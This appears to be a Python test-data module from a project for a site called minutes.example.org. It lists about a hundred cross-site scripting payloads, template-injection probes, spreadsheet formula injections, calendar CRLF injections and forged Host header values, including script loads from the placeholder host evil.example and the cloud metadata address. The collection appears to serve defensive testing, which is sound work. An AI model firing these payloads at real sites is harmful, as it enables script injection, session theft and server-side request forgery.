"""What attackers write into fields and headers, gathered from what is publicly known: a hundred payloads, and host names."""

from __future__ import annotations

_RUN = "alert(1)"
_TAGS = [
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script src=//evil.example/x.js></script>", "<script >{}</script >", "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\n>{}</script>", "<script/x>{}</script>", "<img src=x onerror={}>", "<img/src=x/onerror={}>", '<img src="x" onerror="{}">', "<IMG SRC=x ONERROR={}>", "<img src=x:x onerror={}//",
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><a xlink:href=javascript:{}>x</a></svg>",
    "<body onload={}>", "<iframe src=javascript:{}></iframe>", "<iframe srcdoc='<script>{}</script>'>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>", "<marquee onstart={}>", "<math><mi xlink:href=javascript:{}>x</mi></math>", "<a href=javascript:{}>x</a>", "<a href=' javascript:{}'>x</a>",
    "<a href='java\tscript:{}'>x</a>", "<a href='java\nscript:{}'>x</a>", "<a href=JaVaScRiPt:{}>x</a>", "<a href='&#106;avascript:{}'>x</a>", "<a href=data:text/html,<script>{}</script>>x</a>",
    "<a href=vbscript:{}>x</a>", "<form action=javascript:{}><button>x</button></form>", "<button formaction=javascript:{}>x</button>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(javascript:{})>x</div>", "<p style='x:expression({})'>x</p>", "<table background=javascript:{}>", "<isindex action=javascript:{} type=image>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<template><script>{}</script></template>", "<xmp><script>{}</script></xmp>", "<plaintext><script>{}</script>",
]  # fmt: skip
_BREAKS = [
    '"><script>{}</script>', "'><script>{}</script>", "\"><img src=x onerror={}>", "' onmouseover={} x='", '" onmouseover={} x="', "\" autofocus onfocus={} x=\"", "`onmouseover={}", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</style><script>{}</script>", "</script><script>{}</script>", "--><script>{}</script>", "--!><script>{}</script>", "]]><script>{}</script>", "<!--><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>", "</mark><script>{}</script>", "</a><script>{}</script>", "</h1><script>{}</script>", "</time><script>{}</script>", "\\\"><script>{}</script>", "\\';{}//", '";{}//', "';{}//",
    "\u2028{}\u2029", "\ufeff<script>{}</script>", "\u202e<script>{}</script>", "％3cscript％3e{}", "%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "+ADw-script+AD4-{}+ADw-/script+AD4-", "＜script＞{}＜/script＞", "<\u017fcript>{}</\u017fcript>",
]  # fmt: skip
_LINKS = [
    "javascript:{}", "JAVASCRIPT:{}", " javascript:{}", "java\tscript:{}", "javascript://evil.example/%0a{}", "javascript&colon;{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:{}", "//evil.example/", "https://evil.example/\" onclick={} x=\"", "http://[", "blob:{}",
]  # fmt: skip
_TEMPLATES = ["{{{{7*7}}}}", "{{% debug %}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{{{config}}}}", "{{{{''.__class__.__mro__}}}}"]
_FORMULAS = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "+1+cmd", "-2+3+cmd", '=HYPERLINK("//evil.example")']
_CALENDAR = ["x\r\nEND:VEVENT\r\nBEGIN:VEVENT", "x\nBEGIN:VEVENT\nEND:VCALENDAR"]
PAYLOADS = [one.format(_RUN) for one in (*_TAGS, *_BREAKS, *_LINKS, *_TEMPLATES)] + _FORMULAS + _CALENDAR
FORGED = [
    "evil.example", "evil.example:80", "minutes.example.org.evil.example", "evil.example/minutes.example.org", "minutes.example.org@evil.example", "evil.example#minutes.example.org",
    "evil-minutes.example.org", "minutes.example.orgevil", "127.0.0.1", "[::1]", "169.254.169.254", "evil.example?", "evil.example\\minutes.example.org", "minutes.example.org, evil.example",
    "minutes.example.org evil.example", "sub.minutes.example.org", ".minutes.example.org", "xn--evil.example", "EVIL.EXAMPLE", "minutes.example.org%00.evil.example",
]  # fmt: skip
"""Twenty names that a site called minutes.example.org does not have."""
